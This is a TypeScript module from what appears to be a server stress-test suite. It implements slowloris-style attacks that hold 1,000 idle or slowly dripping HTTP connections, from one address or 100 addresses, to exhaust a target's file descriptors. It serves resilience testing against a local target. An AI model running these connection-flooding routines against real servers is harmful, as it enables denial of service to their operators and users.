import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack, AttackCase, Target } from '../attack.js';
import { persist } from '../clients/persist.js';

/** A request that is sent slowly: its first part, then a byte every `every` milliseconds. */
interface Drip {
  readonly head: string;
  readonly every: number;
}

const head = (request: string): string => `${request} HTTP/1.1\r\nHost: 127.0.0.1\r\n`;
const drips = {
  silent: { head: '', every: Infinity },
  headers: { head: head('GET /'), every: 1000 },
  bodies: {
    head: `${head('POST /v1/txt2img')}Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n`,
    every: 1000,
  },
} as const satisfies Record<string, Drip>;

/** Keeps one plain TCP connection open until the server closes it. */
async function hold(target: Target, address: string, kind: Drip, signal: AbortSignal): Promise<void> {
  const { hostname, port } = new URL(target.url);
  const socket = connect({ host: hostname, port: Number(port), localAddress: address });
  const stop = (): void => void socket.destroy();
  signal.addEventListener('abort', stop);
  try {
    await once(socket, 'connect', { signal });
    target.count('connections');
    await drip(socket, kind);
    if (!signal.aborted) target.count('ended by the server');
    await sleep(100);
  } finally {
    signal.removeEventListener('abort', stop);
    socket.destroy();
  }
}

async function drip(socket: Socket, { head: first, every }: Drip): Promise<void> {
  socket.on('error', () => {});
  socket.resume();
  socket.write(first);
  const timer = every === Infinity ? undefined : setInterval(() => socket.write('a'), every);
  await once(socket, 'close');
  clearInterval(timer);
}

/** @param each connections per address. */
function connectionsAttack(name: string, each: number, kinds: readonly Drip[]): Attack {
  return {
    name,
    async attack(target, signal) {
      const held = Array.from({ length: target.clients }, async (_, i) => {
        // Not all at the same moment, since the attack is not aimed at the backlog of the listening socket.
        await sleep(i);
        const kind = kinds[i % kinds.length] ?? drips.silent;
        const address = target.address(Math.floor(i / each));
        await persist(target, signal, () => hold(target, address, kind, signal));
      });
      await Promise.all(held);
    },
  };
}

export const silentConnections = connectionsAttack('silent-connections', Infinity, [drips.silent]);
const spread = connectionsAttack('silent-many-addresses', 10, [drips.silent]);
export const slowRequests = connectionsAttack('slow-requests', Infinity, [drips.headers, drips.bodies]);
const slowSpread = connectionsAttack('slow-many-addresses', 10, [drips.headers, drips.bodies]);

const openFiles = 1024;
export const descriptorCases: readonly AttackCase[] = [
  { attack: silentConnections, what: 'silent connections from one address' },
  { attack: spread, what: 'silent connections from 100 addresses' },
  { attack: slowRequests, what: 'slow headers and bodies from one address' },
  { attack: slowSpread, what: 'slow headers and bodies from 100 addresses' },
].map(({ attack, what }) => ({
  doorMayShut: attack === spread || attack === slowSpread,
  name: attack.name,
  what: `ulimit -n ${openFiles}, 1,000 ${what}`,
  parts: [{ attack, clients: 1000 }],
  streams: 0,
  openFiles,
}));
